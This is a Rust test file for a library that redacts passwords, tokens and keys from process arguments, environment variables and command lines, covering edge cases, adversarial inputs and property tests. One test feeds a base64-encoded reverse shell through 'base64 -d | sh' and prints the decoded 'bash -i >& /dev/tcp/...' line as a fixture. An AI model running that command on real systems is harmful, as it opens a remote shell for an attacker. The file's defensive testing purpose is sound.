//! What must be hidden, what must stay, and what holds of everything.

use std::borrow::Cow;

use proptest::prelude::*;

use super::*;

mod corpora;

/// The words as the arguments of a process, without what is secret in them.
fn hidden(words: &[&str]) -> String {
    let mut args = words.join("\0").into_bytes();
    args.push(0);
    let shown = arguments(&args);
    let shown = shown.strip_suffix(b"\0").expect("ends as it did");
    String::from_utf8_lossy(shown).replace('\0', " ")
}

fn text_hidden(command: &str) -> String {
    String::from_utf8_lossy(&text(command.as_bytes())).into_owned()
}

#[test]
fn what_stands_around_a_secret_stays() {
    let cases: [(&[&str], &str); 14] = [
        (
            &["mysql", "-u", "root", "-phunter2", "shop"],
            "mysql -u root -p<redacted> shop",
        ),
        (
            &["app", "--password=a b", "--port", "1"],
            "app --password=<redacted> --port 1",
        ),
        (&["app", "--api-key", "k", "-v"], "app --api-key <redacted> -v"),
        (
            &["curl", "-su", "bob:x:y", "http://h/"],
            "curl -su bob:<redacted> http://h/",
        ),
        (
            &["curl", "-H", "Authorization: Bearer abc", "h"],
            "curl -H Authorization: Bearer <redacted> h",
        ),
        (
            &["curl", "-H", "X-Api-Key: abc def"],
            "curl -H X-Api-Key: <redacted>",
        ),
        (
            &["psql", "postgres://bob:pw@db:5/x?sslmode=on"],
            "psql postgres://bob:<redacted>@db:5/x?sslmode=on",
        ),
        (
            &["curl", "https://h/p?a=1&token=x&b=2"],
            "curl https://h/p?a=1&token=<redacted>&b=2",
        ),
        (
            &["env", "PGPASSWORD=x y", "psql"],
            "env PGPASSWORD=<redacted> psql",
        ),
        (
            &["sh", "-c", "PGPASSWORD=x psql -h db"],
            "sh -c PGPASSWORD=<redacted> psql -h db",
        ),
        (
            &["ssh", "h", "sudo mysql -pq -e 'a b'"],
            "ssh h sudo mysql -p<redacted> -e 'a b'",
        ),
        (
            &["openssl", "rsa", "-passin", "pass:x"],
            "openssl rsa -passin pass:<redacted>",
        ),
        (
            &["smbclient", "//h/s", "-U", "bob%x"],
            "smbclient //h/s -U bob%<redacted>",
        ),
        (
            &["curl", "-d", r#"{"user":"a","password":"b\"c","n":1}"#],
            r#"curl -d {"user":"a","password":"<redacted>","n":1}"#,
        ),
    ];
    for (words, expected) in cases {
        assert_eq!(hidden(words), expected);
    }
}

#[test]
fn names_of_files_and_switches_are_no_secrets() {
    let cases: [&[&str]; 10] = [
        &[
            "kubelet",
            "--token-auth-file=/etc/tokens.csv",
            "--password-file",
            "/etc/pw",
        ],
        &["app", "--private-key", "/etc/ssl/private/app.key"],
        &["app", "--token=/run/secrets/token"],
        &["docker", "login", "--password-stdin", "-u", "bob"],
        &[
            "docker",
            "run",
            "-p",
            "80:80",
            "-v",
            "/run/secrets/token:/token:ro",
            "token:latest",
        ],
        &["psql", "--password", "shop"],
        &["ansible", "--ask-pass", "all"],
        &["env", "PWD=/root", "OLDPWD=/", "SSH_AUTH_SOCK=/tmp/s"],
        &["mysql", "-p", "shop"],
        &["sh", "-c", "curl -H \"Authorization: Bearer $TOKEN\" h"],
    ];
    for words in cases {
        assert_eq!(hidden(words), words.join(" "));
    }
}

#[test]
fn variables_are_known_by_name_and_by_value() {
    let shown = |entry: &str| String::from_utf8_lossy(&variable(entry.as_bytes())).into_owned();
    assert_eq!(shown("DB_PASSWORD=a=b c"), "DB_PASSWORD=<redacted>");
    assert_eq!(shown("STRIPE_KEY=abc"), "STRIPE_KEY=<redacted>");
    assert_eq!(
        shown("DATABASE_URL=mysql://u:p@h/d"),
        "DATABASE_URL=mysql://u:<redacted>@h/d"
    );
    for same in [
        "PWD=/srv/x",
        "LD_PRELOAD=/tmp/x.so",
        "PATH=/usr/bin:/bin",
        "SSH_KEY=/root/k",
        "TERM=xterm",
        "",
    ] {
        assert_eq!(shown(same), same);
    }
}

#[test]
fn what_is_run_from_base64_can_be_read_unless_it_holds_a_secret() {
    let plain = "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | sh";
    assert_eq!(
        text_hidden(plain),
        plain,
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
    );
    let secret = "echo bXlzcWwgLXUgcm9vdCAtcEh1bnRlcjIgLWggZGIuaW50ZXJuYWwgc2hvcA== | base64 -d | sh";
    assert_eq!(
        text_hidden(secret),
        "echo <redacted> | base64 -d | sh",
        "mysql -u root -pHunter2 …"
    );
}

#[test]
fn what_is_fed_to_who_reads_a_password_is_one() {
    assert_eq!(
        text_hidden("echo 'bob:pw' | chpasswd"),
        "echo 'bob:<redacted>' | chpasswd"
    );
    assert_eq!(
        text_hidden("echo pw | sudo -S id; echo hello | wc"),
        "echo <redacted> | sudo -S id; echo hello | wc"
    );
}

#[test]
fn bytes_that_are_not_text_are_kept() {
    assert_eq!(
        &*arguments(b"a\xff\0--token=\xfe\0\xfd"),
        b"a\xff\0--token=<redacted>\0\xfd"
    );
    assert_eq!(secrets(b"mysql\0-phunter2\0").collect::<Vec<_>>(), [b"hunter2"]);
}

#[test]
fn nothing_is_allocated_where_nothing_is_hidden() {
    for args in [&b""[..], b"\0", b"ls\0-la\0", b"ls"] {
        assert!(matches!(arguments(args), Cow::Borrowed(same) if same == args));
    }
}

/// Whoever writes arguments to be slow to look at gains nothing: twice the length takes about twice the time, which is not measured
/// here; that it ends at once is.
#[test]
fn hostile_arguments_end() {
    for piece in [
        "=",
        ":",
        "@",
        "a:b@",
        "token=",
        "token:",
        "\"",
        "\\\"",
        "-----BEGIN ",
        "://",
        "a://b:c@",
        "Q~",
        "'",
        "`",
        "$(",
        "password=$(",
        "eyJ",
        "sk-",
        " -p",
        "((",
        "/aA1",
        "<redacted>",
    ] {
        let long = piece.repeat((1 << 17) / piece.len());
        let _ = (
            text(long.as_bytes()),
            arguments(long.as_bytes()),
            variable(long.as_bytes()),
        );
    }
}

/// Pieces of which secrets are made, in any order.
fn pieces() -> impl Strategy<Value = Vec<u8>> {
    const PIECES: [&str; 44] = [
        "mysql",
        "curl",
        "docker",
        "login",
        "sqlplus",
        "vault",
        "put",
        "-p",
        "-u",
        "-H",
        "--password",
        "--token",
        "password",
        "TOKEN",
        "=",
        ":",
        "@",
        "://",
        "/",
        "?",
        "&",
        " ",
        "\0",
        "\"",
        "'",
        "\\",
        "<redacted>",
        "<",
        ">",
        "|",
        "echo ",
        "chpasswd",
        "Authorization: ",
        "Bearer ",
        "ghp_0123456789abcdef",
        "eyJhbGciOiJIUzI1NiJ9.",
        "aB3xK9mQ2vL7pR4tW8yZ1cN6",
        "-----BEGIN PRIVATE KEY-----",
        "-----END",
        "$(",
        ")",
        "file:",
        "user",
        ",",
    ];
    let piece = prop_oneof![
        4 => (0..PIECES.len()).prop_map(|at| PIECES[at].as_bytes().to_vec()),
        1 => any::<Vec<u8>>().prop_map(|bytes| bytes.into_iter().take(6).collect()),
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4_000))]

    #[test]
    fn hiding_neither_fails_nor_grows_beyond_the_marks(bytes in pieces()) {
        for shown in [arguments(&bytes), text(&bytes), variable(&bytes)] {
            // Each mark stands for a byte at least.
            prop_assert!(shown.len() <= bytes.len() * MARK.len());
        }
    }

    #[test]
    fn arguments_stay_as_many(bytes in pieces()) {
        let count = |bytes: &[u8]| bytes.iter().filter(|byte| **byte == 0).count();
        prop_assert_eq!(count(&arguments(&bytes)), count(&bytes));
    }

    #[test]
    fn hiding_again_changes_nothing(bytes in pieces()) {
        let once = arguments(&bytes).into_owned();
        let again = arguments(&once);
        prop_assert_eq!(again.escape_ascii().to_string(), once.escape_ascii().to_string());
        let once = text(&bytes).into_owned();
        let again = text(&once);
        prop_assert_eq!(again.escape_ascii().to_string(), once.escape_ascii().to_string());
    }
}
